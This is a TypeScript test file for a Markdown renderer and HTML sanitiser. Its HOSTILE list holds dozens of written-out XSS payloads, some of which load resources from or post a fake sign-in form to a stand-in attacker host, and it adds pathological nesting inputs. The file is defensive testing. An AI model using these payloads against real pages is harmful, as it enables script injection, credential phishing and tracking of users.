import { DomSanitizer } from '@angular/platform-browser';
import { SecurityContext } from '@angular/core';
import { TestBed } from '@angular/core/testing';

import { MarkdownBlocks, sanitise } from './markdown';

const render = (text: string): string => new MarkdownBlocks().render(text).join('');

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/beacon.gif">',
  '![beacon](https://evil.example/beacon.gif)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src="https://evil.example/v.mp4" autoplay onerror=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3"></audio>',
  '<div style="background:url(https://evil.example/b.gif)">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '```"><script>alert(1)</script>\ncode\n```',
  '`<script>alert(1)</script>`',
  '<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>',
];

const FORBIDDEN =
  'script,img,svg,math,iframe,object,embed,form,input,button,style,link,meta,base,video,audio,template,x';

function expectHarmless(html: string): void {
  const page = document.implementation.createHTMLDocument();
  page.body.innerHTML = html;
  expect([...page.body.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML)).toEqual([]);
  for (const element of page.body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(/^(href|title|align|start|class|rel|target)$/);
      if (name === 'href') {
        expect(value).toMatch(/^(https?:|mailto:)/i);
      }
    }
  }
}

describe('hostile text', () => {
  it.each(HOSTILE)('is harmless as Markdown: %s', (payload) => expectHarmless(render(payload)));

  it.each(HOSTILE)('is harmless when markup reaches the sanitiser: %s', (payload) => expectHarmless(sanitise(payload)));

  it.each(HOSTILE)('passes Angular’s own sanitiser unchanged: %s', (payload) => {
    const normal = document.createElement('div');
    normal.innerHTML = render(payload);
    const angular = document.createElement('div');
    angular.innerHTML = TestBed.inject(DomSanitizer).sanitize(SecurityContext.HTML, render(payload)) ?? '';
    expect(angular.innerHTML).toBe(normal.innerHTML);
  });

  it.each([
    ['quotes in quotes', '> '.repeat(50_000) + 'a'],
    ['one endless line of emphasis', '**a'.repeat(33_000)],
    ['brackets', '['.repeat(100_000)],
    ['lists in lists', Array.from({ length: 200 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
  ])('is shown whatever its shape: %s', (_name, text) => {
    const html = render(text);
    expectHarmless(html);
    expect(html).toContain(text.slice(-1));
  });

  it('keeps markup readable as text', () => {
    const element = document.createElement('div');
    element.innerHTML = render('before <script>alert(1)</script> after');
    expect(element.textContent).toContain('<script>alert(1)</script>');
  });
});

describe('Markdown', () => {
  it('opens links apart from this page', () => {
    const html = render('[docs](https://example.org/a?b=1&c=2) and [mail](mailto:a@example.org)');
    expect(html.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
    expect(html.match(/target="_blank"/g)).toHaveLength(2);
  });

  it('turns a remote image into a link', () => {
    expect(render('![a cat](https://example.org/cat.png)')).toContain('href="https://example.org/cat.png"');
  });

  it('writes lists, tables, code and task lists', () => {
    expect(render('1. a\n2. b')).toContain('<ol>');
    expect(render('| a | b |\n| - | -: |\n| 1 | 2 |')).toContain('<td align="right">2</td>');
    expect(render('```python\nprint(1 < 2)\n```')).toContain('<code class="language-python">print(1 &lt; 2)');
    expect(render('- [x] done\n- [ ] open')).toMatch(/<li class="task">☑ done[\s\S]*<li class="task">☐ open/);
  });

  it('puts headings below the heading of the page', () => {
    expect(render('# One\n\n###### Six *x*')).toBe('<h2>One</h2>\n<h6>Six <em>x</em></h6>\n');
  });

  it('drops classes that it did not write', () => {
    expect(sanitise('<span class="button primary">x</span>')).toBe('<span>x</span>');
  });

  it('gives the same blocks for a text that grows as for the whole at once', () => {
    const text =
      '# Title\n\nSome *words* and [a link][1].\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\n[1]: https://example.org\n';
    const growing = new MarkdownBlocks();
    let last: string[] = [];
    for (let end = 0; end <= text.length; end += 5) {
      last = growing.render(text.slice(0, end));
    }
    last = growing.render(text);
    expect(last).toEqual(new MarkdownBlocks().render(text));
    expect(last.join('')).toContain('href="https://example.org"');
  });

  it('leaves finished blocks untouched while the last one grows', () => {
    const growing = new MarkdownBlocks();
    const [first] = growing.render('One.\n\nTw');
    expect(growing.render('One.\n\nTwo')[0]).toBe(first);
  });
});
